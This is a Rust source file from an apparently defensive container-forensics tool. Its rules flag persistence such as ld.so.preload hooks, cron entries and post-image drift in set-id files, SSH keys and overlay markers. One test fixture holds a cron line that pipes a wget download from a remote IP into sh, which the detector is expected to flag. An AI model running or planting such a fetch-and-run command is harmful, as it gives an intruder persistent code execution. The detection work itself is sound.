//! Rules on what makes an intruder stay: `/etc/ld.so.preload` hooks, scheduled
//! commands in the collected cron files (any route), and what changed since the image
//! that matters (set-id files, executables, SSH keys, cron entries, overlay markers;
//! the node route's drift).

use super::{ev, Finding, Severity};
use crate::examine::facts::Facts;
use cairn_archive::member::files::LD_SO_PRELOAD;
use cairn_archive::member::live::DRIFT;
use cairn_archive::records::drift::Drift;

/// `/etc/ld.so.preload` naming libraries: they are loaded into every program.
pub fn ld_so_preload(f: &Facts, out: &mut Vec<Finding>) {
    let Some(text) = &f.preload else { return };
    let libs: Vec<&str> = text
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .collect();
    if libs.is_empty() {
        return;
    }
    out.push(Finding {
        severity: Severity::High,
        rule: "ld-so-preload",
        sentence: format!(
            "/etc/ld.so.preload loads {} into every program started (a common rootkit hook)",
            libs.join(", ")
        ),
        evidence: vec![ev(f, LD_SO_PRELOAD, String::new())],
    });
}

/// Every scheduled command in the collected cron files: high when it does what a
/// history line must not (fetch and run, a reverse shell: `HISTORY_PATTERNS`), info
/// otherwise (a container seldom schedules anything, so each is listed). Comments,
/// blank lines and variable settings (`MAILTO=`, `PATH=`) are not commands.
pub fn cron_entries(f: &Facts, out: &mut Vec<Finding>) {
    for l in &f.cron {
        let text = l.text.trim();
        let setting = text.split_once('=').is_some_and(|(k, _)| {
            !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        });
        if text.is_empty() || text.starts_with('#') || setting {
            continue;
        }
        let member = f.cron_files.get(l.file).map_or("", String::as_str);
        let hits = super::history::dangers(text);
        let (severity, why) = if hits.is_empty() {
            (Severity::Info, "a scheduled command".to_owned())
        } else {
            (
                Severity::High,
                format!("runs on a schedule and {}", hits.join("; ")),
            )
        };
        out.push(Finding {
            severity,
            rule: "cron-entry",
            sentence: format!(
                "{} line {}: `{text}` {why}",
                member.trim_start_matches("files"),
                l.number
            ),
            evidence: vec![ev(f, member, format!("line {}", l.number))],
        });
    }
}

/// How much one change matters, and why; `None` when it is not a finding.
fn weigh(d: &Drift, mode: Option<&String>) -> Option<(Severity, String)> {
    let change = d.change.as_str();
    let path = d.path.as_str();
    let name = path.rsplit('/').next().unwrap_or(path);
    let mode_text = mode.map(String::as_str).unwrap_or("");
    if change == "marker" {
        return Some((Severity::High, "an overlay marker (a whiteout or opaque mark written inside the container, which would hide image files were it obeyed)".to_owned()));
    }
    if !matches!(change, "added" | "modified" | "metadata") {
        return None;
    }
    if mode.is_some_and(|m| m.contains(['s', 'S'])) {
        return Some((
            Severity::High,
            format!("a set-id file ({mode_text}) {change} since the image"),
        ));
    }
    if change == "metadata" {
        // A new mode or owner matters here only when it makes a file set-id.
        return None;
    }
    if name == "authorized_keys" || name == "authorized_keys2" {
        return Some((
            Severity::High,
            format!("SSH authorized keys {change} since the image"),
        ));
    }
    if path.starts_with("/etc/cron")
        || path.starts_with("/var/spool/cron")
        || path == "/etc/crontab"
    {
        return Some((
            Severity::High,
            format!("a cron entry {change} since the image"),
        ));
    }
    if mode.is_some_and(|m| m.contains('x')) {
        return Some((
            Severity::Medium,
            format!("an executable ({mode_text}) {change} since the image"),
        ));
    }
    None
}

/// What changed since the image that matters: set-id files, executables, SSH keys,
/// cron entries, and overlay markers (which would hide files were they obeyed).
pub fn drift(f: &Facts, out: &mut Vec<Finding>) {
    for (i, d) in f.drift.iter().enumerate() {
        let Some((severity, what)) = weigh(d, f.modes.get(&d.path)) else {
            continue;
        };
        let at = format!("record {} ({})", i + 1, d.path);
        out.push(Finding {
            severity,
            rule: "drift",
            sentence: format!(
                "{}: {what}{}",
                d.path,
                d.sha256
                    .as_deref()
                    .map(|s| format!(" (sha256 {s})"))
                    .unwrap_or_default()
            ),
            evidence: vec![ev(f, DRIFT, at)],
        });
    }
}

#[cfg(test)]
mod tests {
    use super::super::{all, facts, typed, Severity};
    use crate::examine::facts::Facts;
    use serde_json::json;

    fn rules_of(f: &Facts) -> Vec<(&'static str, Severity)> {
        all(f).iter().map(|x| (x.rule, x.severity)).collect()
    }

    #[test]
    fn drift_findings_are_set_id_files_executables_keys_cron_and_markers_only() {
        let mut f = facts();
        f.modes
            .insert("/usr/local/bin/sx".into(), "-rwsr-xr-x".into());
        f.modes.insert("/tmp/tool".into(), "-rwxr-xr-x".into());
        f.drift = typed(vec![
            json!({"change": "added", "path": "/usr/local/bin/sx", "type": "file", "sha256": "ab"}),
            json!({"change": "added", "path": "/tmp/tool", "type": "file"}),
            json!({"change": "modified", "path": "/root/.ssh/authorized_keys", "type": "file"}),
            json!({"change": "added", "path": "/etc/cron.d/x", "type": "file"}),
            json!({"change": "marker", "path": "/etc/.wh.shadow", "type": "file"}),
            json!({"change": "added", "path": "/tmp/notes.txt", "type": "file"}),
            json!({"change": "deleted", "path": "/etc/group", "type": "file"}),
        ]);
        assert_eq!(
            rules_of(&f),
            [
                ("drift", Severity::High),
                ("drift", Severity::High),
                ("drift", Severity::High),
                ("drift", Severity::High),
                ("drift", Severity::Medium),
            ]
        );
        let s: Vec<String> = all(&f).into_iter().map(|x| x.sentence).collect();
        assert!(
            s[0].starts_with("/usr/local/bin/sx: a set-id file (-rwsr-xr-x) added"),
            "{s:?}"
        );
    }

    #[test]
    fn scheduled_commands_are_listed_and_those_that_fetch_and_run_are_high() {
        use crate::examine::facts::HistoryLine;
        let mut f = super::super::facts();
        f.cron_files.push("files/etc/crontabs/root".into());
        for (i, l) in [
            "# m h dom mon dow command",
            "MAILTO=\"\"",
            "",
            "*/5 * * * * wget -qO- http://198.51.100.7/x | sh",
            "0 3 * * * /usr/local/bin/backup",
        ]
        .iter()
        .enumerate()
        {
            f.cron.push(HistoryLine {
                file: 0,
                number: i + 1,
                text: (*l).into(),
            });
        }
        let found = super::super::all(&f);
        let s: Vec<(&str, &str, &str)> = found
            .iter()
            .map(|x| (x.severity.name(), x.rule, x.sentence.as_str()))
            .collect();
        assert_eq!(
            s,
            [
                ("high", "cron-entry", "/etc/crontabs/root line 4: `*/5 * * * * wget -qO- http://198.51.100.7/x | sh` runs on a schedule and fetches code and runs it"),
                ("info", "cron-entry", "/etc/crontabs/root line 5: `0 3 * * * /usr/local/bin/backup` a scheduled command"),
            ]
        );
        assert_eq!(found[0].evidence[0].at, "line 4");
    }
}
